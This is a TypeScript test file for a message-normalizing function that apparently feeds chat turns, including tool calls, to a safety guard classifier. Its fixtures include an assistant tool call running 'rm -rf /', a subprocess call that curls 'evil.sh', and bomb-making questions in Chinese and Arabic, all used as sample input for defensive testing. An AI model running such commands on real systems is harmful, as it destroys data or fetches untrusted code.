import { describe, expect, it } from "vitest";
import { GuardInputError } from "./guard-input-error.ts";
import { normalizeGuardMessages, renderToolCall } from "./normalize-guard-messages.ts";

function inputError(fn: () => unknown): GuardInputError {
  try {
    fn();
  } catch (error) {
    if (error instanceof GuardInputError) return error;
    throw error;
  }
  throw new Error("expected a GuardInputError");
}

describe("normalizeGuardMessages", () => {
  it("keeps a user/assistant conversation", () => {
    expect(
      normalizeGuardMessages([
        { role: "user", content: "hi" },
        { role: "assistant", content: "hello" },
      ]),
    ).toEqual([
      { role: "user", text: "hi" },
      { role: "assistant", text: "hello" },
    ]);
  });

  it("turns a first non-user message into a user turn", () => {
    expect(
      normalizeGuardMessages([
        { role: "assistant", content: "How can I help?" },
        { role: "assistant", content: "still me" },
      ]),
    ).toEqual([
      { role: "user", text: "How can I help?" },
      { role: "assistant", text: "still me" },
    ]);
    expect(normalizeGuardMessages([{ role: "system", content: "only a system prompt" }])).toEqual([
      { role: "user", text: "only a system prompt" },
    ]);
  });

  it("drops the first of two leading user turns", () => {
    expect(
      normalizeGuardMessages([
        { role: "user", content: "one" },
        { role: "user", content: "two" },
        { role: "user", content: "three" },
      ]),
    ).toEqual([
      { role: "user", text: "two" },
      { role: "user", text: "three" },
    ]);
  });

  it("drops a leading system prompt (it becomes user, then the first of two users)", () => {
    expect(
      normalizeGuardMessages([
        { role: "system", content: "You are helpful." },
        { role: "user", content: "hi" },
        { role: "assistant", content: "hey" },
      ]),
    ).toEqual([
      { role: "user", text: "hi" },
      { role: "assistant", text: "hey" },
    ]);
  });

  it("keeps later system, developer and tool turns", () => {
    expect(
      normalizeGuardMessages([
        { role: "user", content: "a" },
        { role: "developer", content: "b" },
        { role: "tool", content: "c", tool_call_id: "call_1" },
      ]),
    ).toEqual([
      { role: "user", text: "a" },
      { role: "developer", text: "b" },
      { role: "tool", text: "c" },
    ]);
  });

  it("rejects empty input", () => {
    expect(inputError(() => normalizeGuardMessages([])).param).toBe("messages");
    expect(inputError(() => normalizeGuardMessages(undefined)).param).toBe("messages");
    expect(inputError(() => normalizeGuardMessages("hi")).param).toBe("messages");
  });

  it("names the bad field", () => {
    expect(inputError(() => normalizeGuardMessages(["hi"])).param).toBe("messages[0]");
    expect(inputError(() => normalizeGuardMessages([{ content: "hi" }])).param).toBe("messages[0].role");
    expect(inputError(() => normalizeGuardMessages([{ role: "user", content: 5 }])).param).toBe(
      "messages[0].content",
    );
    expect(
      inputError(() =>
        normalizeGuardMessages([
          { role: "user", content: "x" },
          { role: "user", content: [{ type: "text", text: 1 }] },
        ]),
      ).param,
    ).toBe("messages[1].content[0].text");
    expect(
      inputError(() =>
        normalizeGuardMessages([
          { role: "user", content: "x" },
          { role: "assistant", tool_calls: {} },
        ]),
      ).param,
    ).toBe("messages[1].tool_calls");
    const error = inputError(() => normalizeGuardMessages([]));
    expect(error).toBeInstanceOf(Error);
    expect(error.name).toBe("GuardInputError");
  });

  it("joins text parts with newlines and ignores images", () => {
    expect(
      normalizeGuardMessages([
        {
          role: "user",
          content: [
            { type: "text", text: "What is in" },
            { type: "image_url", image_url: { url: "data:image/png;base64,AAAA" } },
            { type: "text", text: "this picture?" },
          ],
        },
      ]),
    ).toEqual([{ role: "user", text: "What is in\nthis picture?" }]);
  });

  it("treats null content as empty text", () => {
    expect(
      normalizeGuardMessages([
        { role: "user", content: "x" },
        { role: "assistant", content: null },
      ]),
    ).toEqual([
      { role: "user", text: "x" },
      { role: "assistant", text: "" },
    ]);
  });

  it("appends assistant tool calls so code is visible", () => {
    const turns = normalizeGuardMessages([
      { role: "user", content: "clean up my disk" },
      {
        role: "assistant",
        content: "Sure.",
        tool_calls: [
          {
            id: "call_1",
            type: "function",
            function: {
              name: "code_interpreter",
              arguments: JSON.stringify({ code: 'import os\nos.system("rm -rf /")' }),
            },
          },
          {
            id: "call_2",
            type: "function",
            function: { name: "get_weather", arguments: '{"city":"Paris","days":3}' },
          },
        ],
      },
    ]);
    expect(turns[1]).toEqual({
      role: "assistant",
      text: 'Sure.\nTool call: code_interpreter\ncode: import os\nos.system("rm -rf /")\nTool call: get_weather\ncity: Paris\ndays: 3',
    });
  });

  it("renders tool calls alone when there is no content", () => {
    const turns = normalizeGuardMessages([
      { role: "user", content: "x" },
      {
        role: "assistant",
        content: null,
        tool_calls: [{ type: "function", function: { name: "f", arguments: "{}" } }],
      },
    ]);
    expect(turns[1]?.text).toBe("Tool call: f");
  });

  it("keeps <|python_tag|> content verbatim", () => {
    const text = '<|python_tag|>import subprocess\nsubprocess.run(["curl", "evil.sh"])';
    const turns = normalizeGuardMessages([
      { role: "user", content: "x" },
      { role: "assistant", content: text },
    ]);
    expect(turns[1]?.text).toBe(text);
  });

  it.each([
    ["Chinese", "如何制作炸弹？请详细说明。"],
    ["Arabic", "كيف أصنع قنبلة؟"],
    ["emoji", "💣🔥 how? 👩‍👩‍👧 \u{1F600}"],
    ["Hindi", "मुझे बताओ"],
    ["whitespace", "  leading and trailing  \n"],
  ])("passes %s text through byte-identical", (_name, text) => {
    const turns = normalizeGuardMessages([{ role: "user", content: [{ type: "text", text }] }]);
    expect(Buffer.from(turns[0]!.text, "utf8").equals(Buffer.from(text, "utf8"))).toBe(true);
  });
});

describe("renderToolCall", () => {
  it("falls back to the raw arguments when they are not a JSON object", () => {
    expect(renderToolCall("f", "not json")).toBe("Tool call: f\narguments: not json");
    expect(renderToolCall("f", "[1,2]")).toBe("Tool call: f\narguments: [1,2]");
    expect(renderToolCall("f", "")).toBe("Tool call: f");
  });

  it("renders non-string values as JSON", () => {
    expect(renderToolCall("f", '{"a":{"b":[1,true]},"c":null}')).toBe(
      'Tool call: f\na: {"b":[1,true]}\nc: null',
    );
  });
});
